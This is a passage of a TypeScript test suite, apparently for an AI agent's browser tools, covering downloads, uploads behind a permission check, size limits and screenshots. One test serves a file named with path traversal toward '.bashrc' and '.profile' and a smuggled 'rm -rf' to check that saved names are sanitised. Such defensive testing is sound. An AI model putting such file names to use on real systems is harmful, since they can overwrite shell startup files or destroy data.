    process.kill(-scene.pid!, 'SIGKILL')
    await expect(scene.call('browser_snapshot')).rejects.toThrow(/gone|No page is open|closed/)
    expect(await scene.call('browser_navigate', { url: at('/kill') })).toContain('alive')
    expect(await readdir(join(scene.folder, 'cache'))).toHaveLength(1)
  })

  const file =
    (name: string, bytes: string | Buffer): Answer =>
    (_request, response) => {
      response.writeHead(200, {
        'content-type': 'application/octet-stream',
        'content-disposition': `attachment; filename="${name}"`,
      })
      response.end(bytes)
    }

  it('keeps what pages download in a folder of the session, by a plain name and what it is', async () => {
    site.pages['/report'] = file('report.pdf', '%PDF-1.4 report')
    site.pages['/odd'] = file('..%2F..%2F.bashrc;rm -rf.sh', '#!/bin/sh\n')
    const text = await open(
      '/files',
      '<a href="/report">Report</a><a href="/odd" download="../../.profile">Odd</a><button>Nothing</button>',
    )
    const [report, odd] = refs(text, 'link')
    const first = await scene.call('browser_download', { ref: report! })
    const path = /Downloaded (\S+) \(PDF document, 15 bytes\)/.exec(first)?.[1] ?? first
    expect(path.startsWith(join(scene.folder, 'downloads', 'one'))).toBe(true)
    expect(await readFile(path, 'utf8')).toBe('%PDF-1.4 report')
    expect((await stat(path)).mode & 0o777).toBe(0o600)
    expect(await scene.call('browser_download', { ref: report! })).toContain('report-2.pdf')
    expect(await scene.call('browser_download', { ref: odd! })).toMatch(
      /downloads\/one\/[\w() -]+[^/]* \(script, 10 bytes\)/,
    )
    const names = await readdir(join(scene.folder, 'downloads', 'one'))
    expect(names.every((name) => /^[\w(][\w.() -]*$/.test(name))).toBe(true)
    expect(await scene.call('browser_navigate', { url: at('/report') })).toMatch(
      /The address is a file[\s\S]*report-3\.pdf/,
    )
    expect(await scene.call('browser_snapshot')).toContain('button "Nothing"')
    expect(await scene.call('browser_download', { ref: refs(text, 'button')[0]! })).toContain('Nothing was downloaded.')
    expect(await scene.call('browser_download')).toContain('No download is under way.')
    const script = `const a = document.createElement('a'); a.download = '${'報'.repeat(120)}.txt'; a.href = window.URL.createObjectURL(new Blob(['long'])); a.click()`
    const made = await open('/made', `<button onclick="${script}">Make</button>`)
    expect(await scene.call('browser_download', { ref: refs(made, 'button')[0]! })).toMatch(
      /報+\.txt \(text, 4 bytes\)/,
    )
  })

  it('ends a download that is too large, and the session goes on', async () => {
    site.pages['/huge'] = (_request, response) => {
      response.writeHead(200, {
        'content-type': 'application/octet-stream',
        'content-disposition': 'attachment; filename=huge.bin',
      })
      const chunk = Buffer.alloc(1_000_000)
      const more = () => {
        while (!response.destroyed && response.write(chunk)) {}
      }
      response.on('drain', more)
      more()
    }
    const text = await open('/big', '<a href="/huge">Huge</a>')
    expect(await scene.call('browser_download', { ref: refs(text, 'link')[0]! })).toContain(
      '"huge.bin" was not downloaded: it has more than 100 MB.',
    )
    expect(await scene.call('browser_snapshot')).toContain('link "Huge"')
  })

  it('hands files to a page once they may be read and sent', async () => {
    await writeFile(join(scene.folder, 'a.txt'), 'alpha')
    await writeFile(join(scene.folder, 'b.txt'), 'beta')
    const script =
      'onchange="Promise.all([...this.files].map((f) => f.text())).then((t) => { out.textContent = t.join(`+`) })"'
    const text = await open(
      '/up',
      `<label>Papers <input type=file multiple ${script}></label><label>One <input type=file></label><button onclick="one.click()">Choose</button><input id=one type=file style="display:none" ${script}><p id=out>empty</p>`,
    )
    const [many, single] = refs(text, 'file')
    const paths = ['a.txt', 'b.txt'].map((name) => join(scene.folder, name))
    const answer = await scene.call('browser_upload', { ref: many!, paths })
    expect(answer).toContain('Gave a.txt, b.txt to')
    expect(await scene.call('browser_snapshot')).toContain('alpha+beta')
    expect(scene.requested).toContainEqual({
      type: 'send',
      target: `browser-upload:http://site.test:${site.port}`,
      chosen: 'acts',
    })
    await expect(scene.call('browser_upload', { ref: single!, paths })).rejects.toThrow('takes one file')
    await scene.call('browser_upload', { ref: refs(text, 'button')[0]!, paths: [paths[1]!] })
    expect(await scene.call('browser_snapshot')).toMatch(/\bbeta\b/)
    const framed = await open('/around', `<iframe src="http://other.test:${site.port}/up"></iframe>`)
    await scene.call('browser_upload', { ref: refs(framed, 'file')[0]!, paths: [paths[0]!] })
    expect(scene.requested.at(-1)).toMatchObject({ target: `browser-upload:http://other.test:${site.port}` })
    await open('/up-again', '<label>Papers <input type=file></label>')
    scene.denies = ({ type }) => type === 'send'
    site.seen.length = 0
    const [last] = refs(await scene.call('browser_snapshot'), 'file')
    await expect(scene.call('browser_upload', { ref: last!, paths: [paths[0]!] })).rejects.toThrow('denied')
    expect(site.seen).toEqual([])
  })

  it('shows a picture of the window, with references where they are wanted and none left behind', async () => {
    const text = await open('/look', '<button style="position:absolute;left:200px;top:300px">Here</button><p>words')
    const plain = await scene.call('browser_vision', { question: 'What?' })
    const [, path = ''] = /(\/\S+screenshot\S*\.jpg) \d+$/.exec(plain) ?? []
    expect((await readFile(path)).subarray(0, 3).toString('hex')).toBe('ffd8ff')
    const labelled = await scene.call('browser_vision', { question: 'What?', annotate: true })
    expect(labelled).toContain(`${refs(text, 'button')[0]} button "Here"`)
    const [, other = ''] = /(\/\S+screenshot\S*\.jpg) \d+$/.exec(labelled) ?? []
    expect((await readFile(other)).equals(await readFile(path))).toBe(false)
    const again = await scene.call('browser_vision', { question: 'What?' })
    const [, third = ''] = /(\/\S+screenshot\S*\.jpg) \d+$/.exec(again) ?? []
    expect((await readFile(third)).equals(await readFile(path))).toBe(true)
  })
})
